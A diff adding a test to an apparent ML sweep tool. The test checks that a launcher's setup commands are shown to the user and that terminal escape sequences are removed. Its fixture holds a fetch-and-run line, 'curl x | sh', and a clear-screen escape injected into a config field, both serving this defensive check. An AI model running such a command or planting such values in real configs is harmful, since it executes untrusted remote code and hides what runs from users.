@@ -233,6 +233,19 @@ def test_devices_are_those_of_where_runs_are_done(config, monkeypatch):
     assert not any("device" in line for line in prepare(config).obstacles())
 
 
+def test_commands_of_jobs_are_shown(tmp_path):
+    """A sweep's folder may be a stranger's; a run's own options are not repeated."""
+    launcher = {
+        "name": "slurm",
+        "cores": 2,
+        "setup": ["curl x | sh"],
+        "python": "\x1b[2Jnice python",
+    }
+    values = {"datasets": ["ColoredDigits"], "algorithms": ["ERM"], "output_dir": str(tmp_path)}
+    told = outlook(prepare(load_config(None, {**values, "launcher": launcher})))
+    assert "its jobs are started with setup ['curl x | sh'], python nice python" in told
+
+
 def test_a_sweep_on_domainnet_says_how_long_others_train(tmp_path):
     def told(**fields):
         values = {"datasets": ["DomainNet"], "algorithms": ["ERM"], "output_dir": str(tmp_path)}
